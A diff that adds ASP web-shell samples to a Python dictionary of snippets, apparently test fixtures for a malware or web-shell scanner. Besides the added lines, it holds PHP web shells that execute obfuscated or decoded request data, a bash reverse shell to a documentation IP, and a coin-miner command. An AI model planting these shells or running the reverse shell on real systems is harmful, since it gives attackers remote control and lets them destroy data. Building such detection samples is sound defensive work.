@@ -109,6 +109,13 @@ SNIPPETS: dict[str, bytes] = {
     "php_variable_function_on_request": b"<?php $k = str_rot13('flfgrz'); $k($_COOKIE['z']); ?>",
     "php_exec_decoded_request": b"<?php $c = base64_decode($_POST['q']); exec($c . ' 2>&1', $out); ?>",
     "php_upload_to_requested_path": b"<?php copy($_FILES['f']['tmp_name'], $_POST['to']); ?>",
+    "asp_execute_decoded_session_code": (b'<% if session("k")="" then:session("k")=dec(blob):end if:'
+                                         b'k=session("k"):execute k:function dec(s):for i=1 to len(s):'
+                                         b'dec=dec&chr(asc(mid(s,i,1))-1):next:end function %>'),
+    "asp_execute_request_into_variables": (b'<% For Each n In Request.Form\n'
+                                           b'execute ""&n&"=request.form("""&n&""")"\nNext %>'),
+    "asp_file_operation_on_request": (b'<% Set f = CreateObject("Scripting.FileSystemObject")\n'
+                                      b'f.DeleteFile Request.QueryString("p") %>'),
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
